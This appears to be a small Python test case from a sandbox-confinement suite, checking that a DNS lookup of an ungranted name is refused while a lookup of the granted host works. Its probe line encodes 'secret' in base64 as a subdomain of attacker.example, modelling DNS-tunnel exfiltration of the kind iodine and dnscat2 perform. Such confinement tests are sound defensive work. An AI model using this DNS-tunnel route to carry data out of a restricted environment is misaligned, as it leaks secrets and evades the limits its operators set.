# Route: looks up a name that is not granted, to carry data out in it
# Known from: tunnels through DNS (iodine, dnscat2)
# Grants: { network: { hosts: ["service.example.org:443"] } }
# Refused: gaierror
# Twin: looks up the granted name
# Unconfined: cannot run: hosts may have no name server
# Worlds: walls
import socket
import attempt as a

a.attempt(lambda: socket.getaddrinfo("c2VjcmV0.attacker.example", 443))
a.twin(lambda: socket.getaddrinfo("service.example.org", 443))
